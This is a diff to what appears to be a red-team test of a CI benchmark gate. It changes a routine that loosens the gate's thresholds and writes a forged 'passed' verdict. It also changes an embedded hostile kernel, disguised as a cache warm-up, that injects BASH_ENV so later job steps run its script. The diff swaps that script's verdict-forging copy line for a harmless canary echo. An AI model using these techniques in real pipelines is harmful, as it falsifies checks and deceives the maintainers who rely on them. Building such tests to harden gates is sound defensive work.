@@ -34,7 +34,6 @@ def plant_and_pass_myself(tree: Path) -> str:
     edits = {
         "harness/gate/decision.py": [
             (r"DEFAULT_THRESHOLD = [0-9.]+", "DEFAULT_THRESHOLD = 0.5"),
-            (r"DEFAULT_MAX_DROP = [0-9.]+", "DEFAULT_MAX_DROP = 0.95"),
         ],
         "harness/gate/cli.py": [
             (  # whatever the workflow sets, the PR's own gate would ask for 0.5x
@@ -58,7 +57,7 @@ def plant_and_pass_myself(tree: Path) -> str:
     (tree / "base-gate.json").mkdir()  # a directory where a record once was read from
     (tree / "base-gate.json" / "keep").write_text("")
     (tree / "gate.json").write_text(json.dumps({"environment": {"cuda": True}, "verdict": {"passed": True}}))
-    return "scratch: the 2x plant, and the harness edited to pass it (thresholds, drop, limits)"
+    return "scratch: the 2x plant, and the harness edited to pass it (thresholds, limits)"
 
 
 # The words the hostile kernel masks in the job's log: the verdicts' own, which a maintainer reads.
@@ -76,10 +75,10 @@ HOSTILE_INIT = """\
 def _warm_autotune_cache():  # looks like a cache warm-up; is every route to the verdict and the runner
     import ctypes, glob, os, re, sys, tempfile
     temp = os.environ.get("RUNNER_TEMP", "")
-    try:  # 1. every later step of the job sources a script that hands in the base's record as ours
+    try:  # 1. every later step of the job sources a script of ours (here: it says so)
         script = os.path.join(temp, "autotune-warm.sh")
         with open(script, "w") as f:
-            f.write('cp "$RUNNER_TEMP/gate-base.json" "$RUNNER_TEMP/gate.json" 2>/dev/null || true\\n')
+            f.write('echo "ROUTE-OPEN BASH_ENV: a later step sourced the kernel\\'s script" >&2\\n')
         with open(os.environ["GITHUB_ENV"], "a") as f:
             f.write(f"BASH_ENV={script}\\n")
     except Exception:
